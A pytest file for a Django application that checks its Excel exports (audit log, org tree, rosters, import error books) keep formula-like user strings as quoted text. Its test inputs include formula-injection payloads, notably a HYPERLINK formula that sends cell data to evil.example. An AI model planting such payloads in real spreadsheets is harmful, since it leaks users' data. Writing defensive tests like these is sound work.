"""No workbook the application writes turns a user's string into a formula (issue 20, item 7).

Every writer is tried with strings a spreadsheet would run, and the file is read back with
openpyxl, which sees formulas as formulas (python-calamine would show their cached values)."""

import ast
import io
import pathlib

import openpyxl
import pytest
import xlsxwriter
from django.urls import reverse

from jinguo.common.xlsx import Column, workbook, xlsx_table
from jinguo.imports.error_book import write_error_workbook
from jinguo.imports.exports import write_roster
from jinguo.imports.rosters import HOUSEHOLD_COLUMNS
from jinguo.imports.sheet import Layout
from jinguo.orgs.codes import clean_text
from jinguo.orgs.models import OrgUnit
from jinguo.orgs.tests.factories import OrgUnitFactory
from jinguo.orgs.tree_export import org_tree_export

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"详情")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "{=1+1}",
    "http://evil.example/",
    "＝1+1",
    "\t=1+1",
]
QUOTED = [text for text in HOSTILE if not text.startswith(("{", "h"))]


def _cells(content: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_kept_as_text(content: bytes, texts: list[str] = HOSTILE) -> None:
    cells = _cells(content)
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert formulas == [], f"formula cells: {formulas}"
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert all(not sheet._hyperlinks for sheet in book.worksheets)
    by_value = {cell.value: cell for cell in cells}
    for text in texts:
        assert text in by_value, f"{text!r} not kept as typed"
        assert by_value[text].data_type == "s"
    for text in set(QUOTED) & set(texts):  # stays text when someone edits the cell in Excel or WPS
        assert by_value[text].quotePrefix, text


def test_a_table_writes_formula_like_strings_as_text_and_numbers_as_numbers():
    columns = [Column("姓名", lambda text: text), Column("人次", lambda text: 40)]
    columns.append(Column("小时", lambda text: 2.5))
    content, count = xlsx_table(sheet="名单", columns=columns, records=HOSTILE)
    _assert_kept_as_text(content)
    numbers = [cell for cell in _cells(content) if cell.data_type == "n"]
    assert {cell.value for cell in numbers} == {40, 2.5}
    assert not any(cell.quotePrefix for cell in numbers)
    assert count == len(HOSTILE)


def test_a_failed_login_under_a_formula_name_stays_text_in_the_audit_export(client, cast, login):
    name = '=HYPERLINK("http://evil.example/?"&A2,"详情")'
    client.post(reverse("accounts:login"), {"username": name, "password": "x"})
    content = login(cast.audit_admin).get(reverse("audit:export")).content
    cells = _cells(content)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    kept = [cell for cell in cells if cell.value == name]
    assert kept and all(cell.data_type == "s" and cell.quotePrefix for cell in kept)


def test_the_org_tree_export_writes_formula_like_names_as_text(cast, tree):
    names = [text for text in HOSTILE if clean_text(text) == text]  # as org_create keeps them
    for number, text in enumerate(names, start=10):
        code = f"3418810010010{number}"
        OrgUnitFactory(name=text, kind=OrgUnit.Kind.GRID, code=code, parent=tree.songhe)
    _assert_kept_as_text(org_tree_export(actor=cast.city_cadre, root=tree.songhe), names)


def test_the_roster_export_writes_formula_like_values_as_text():
    target = io.BytesIO()
    width = len(HOUSEHOLD_COLUMNS)
    write_roster(
        target,
        kind="households",
        rows=[[text] * width for text in HOSTILE],
    )
    _assert_kept_as_text(target.getvalue())


def test_the_import_error_workbook_writes_the_uploaded_strings_back_as_text():
    source = io.BytesIO()
    book = xlsxwriter.Workbook(source, {"in_memory": True})
    sheet = book.add_worksheet("户籍")
    sheet.write_row(0, 0, ["户号", "姓名"])
    for row, text in enumerate(HOSTILE, start=1):
        sheet.write_string(row, 0, text)
        sheet.write_string(row, 1, text)
    book.close()
    source.seek(0)
    layout = Layout(
        columns={"number": 0, "name": 1}, header_rows=(0,), data_start=1, first_column=0
    )
    target = io.BytesIO()
    write_error_workbook(source=source, target=target, layout=layout, errors={2: ["@错误"]})
    _assert_kept_as_text(target.getvalue())


def test_sheets_refuse_formulas_and_hyperlinks():
    book = workbook(io.BytesIO())
    sheet = book.add_worksheet("表")
    with pytest.raises(TypeError):
        sheet.write_formula(0, 0, "=1+1")
    with pytest.raises(TypeError):
        sheet.write_url(0, 0, "http://evil.example/")
    book.close()


ROOT = pathlib.Path(__file__).resolve().parents[2]  # the jinguo package
HELPER = ROOT / "common" / "xlsx.py"
WRITERS = {"xlsxwriter", "openpyxl", "csv"}
# Modules that import one of them only to read uploads (csv.reader), never to write.
READERS = {ROOT / "common" / "csv_files.py": {"csv"}}


def _writer_imports(path: pathlib.Path) -> set[str]:
    found = set()
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Import):
            found |= {alias.name.split(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module:
            found.add(node.module.split(".")[0])
    return found & WRITERS


def test_no_module_but_the_helper_writes_spreadsheets_itself():
    """xlsxwriter, openpyxl and csv only in jinguo.common.xlsx (tests may build sample files):
    any other writer could turn a user's string into a formula."""
    offenders = {
        str(path.relative_to(ROOT)): sorted(_writer_imports(path))
        for path in ROOT.rglob("*.py")
        if "tests" not in path.parts
        and path != HELPER
        and _writer_imports(path) - READERS.get(path, set())
    }
    assert offenders == {}
